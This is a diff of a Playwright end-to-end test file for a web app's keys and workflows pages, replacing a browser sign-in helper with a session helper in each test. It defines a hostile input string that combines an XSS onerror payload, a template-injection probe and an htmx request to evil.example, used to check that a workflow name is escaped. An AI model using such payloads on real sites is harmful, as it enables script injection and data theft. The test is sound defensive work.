@@ -8,8 +8,9 @@ from playwright.sync_api import Browser, Page, expect
 from requests import Response
 
 from tests.axe import violations
-from tests.main_job.visitors import send_form, sign_in, sign_in_browser
+from tests.main_job.visitors import send_form, sign_in
 from tests.server import LiveServer
+from tests.sessions import enter
 from tests.teams import LiveTeam
 
 HOSTILE = "<img src=x onerror=alert(1)> {{7*7}} hx-get=//evil.example"
@@ -37,7 +38,7 @@ def themed(browser: Browser, request: pytest.FixtureRequest) -> Iterator[Page]:
 def test_a_limited_key_is_made_rotated_and_its_old_use_is_seen(
     server: LiveServer, team: LiveTeam, page: Page
 ) -> None:
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     page.goto(server.url + "/keys")
     expect(page.get_by_label("ingest")).to_be_checked()
     expect(page.get_by_label("read")).to_be_checked()
@@ -76,7 +77,7 @@ def test_a_limited_key_is_made_rotated_and_its_old_use_is_seen(
 def test_a_second_press_does_not_hide_the_key(
     server: LiveServer, team: LiveTeam, page: Page
 ) -> None:
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     page.goto(server.url + "/keys")
     page.get_by_label("Name").fill("Twice")
     sent: list[str] = []
@@ -92,7 +93,7 @@ def test_a_second_press_does_not_hide_the_key(
 def test_a_workflow_is_renamed_archived_and_restored(
     server: LiveServer, team: LiveTeam, page: Page
 ) -> None:
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     page.goto(server.url + "/workflows")
     page.get_by_role("link", name=team.name).click()
     rename(page, "Invoice sync", "No Slug")
@@ -129,7 +130,7 @@ def test_a_workflow_is_renamed_archived_and_restored(
 def test_test_events_are_sent_in_place_and_without_javascript(
     server: LiveServer, team: LiveTeam, page: Page, browser: Browser
 ) -> None:
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     address = f"{server.url}/workflows/{team.workflow_id}"
     page.goto(address)
     page.get_by_role("button", name="Success").click()
@@ -152,7 +153,7 @@ def test_test_events_are_sent_in_place_and_without_javascript(
     expect(page.get_by_text("A value is empty").first).to_be_visible()
     context = browser.new_context(java_script_enabled=False)
     plain = context.new_page()
-    sign_in_browser(server, team, plain)
+    enter(plain.context, server, team.email)
     plain.goto(address)
     plain.get_by_role("button", name="Failure").click()
     expect(plain).to_have_url(re.compile("/events/"))
@@ -163,7 +164,7 @@ def test_test_events_are_sent_in_place_and_without_javascript(
 def test_search_in_the_ticks_hides_what_does_not_fit(
     server: LiveServer, team: LiveTeam, page: Page
 ) -> None:
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     person = sign_in(server, team)
     for number in range(9):
         answer = send_form(person, server, "/workflows", name=f"Nightly {number}")
@@ -187,7 +188,7 @@ def test_a_hostile_name_runs_nowhere(server: LiveServer, team: LiveTeam, page: P
     asked: list[str] = []
     page.on("request", lambda request: asked.append(request.url))
     page.on("dialog", lambda dialog: pytest.fail(dialog.message))
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     page.goto(server.url + "/workflows")
     page.get_by_label("Name").fill(HOSTILE)
     page.get_by_role("button", name="Create workflow").click()
@@ -209,7 +210,7 @@ def test_a_hostile_name_runs_nowhere(server: LiveServer, team: LiveTeam, page: P
 @pytest.mark.once
 def test_axe_finds_nothing(server: LiveServer, team: LiveTeam, themed: Page) -> None:
     page = themed
-    sign_in_browser(server, team, page)
+    enter(page.context, server, team.email)
     workflow = f"/workflows/{team.workflow_id}"
     page.goto(server.url + workflow)
     page.get_by_role("link", name="Edit").click()
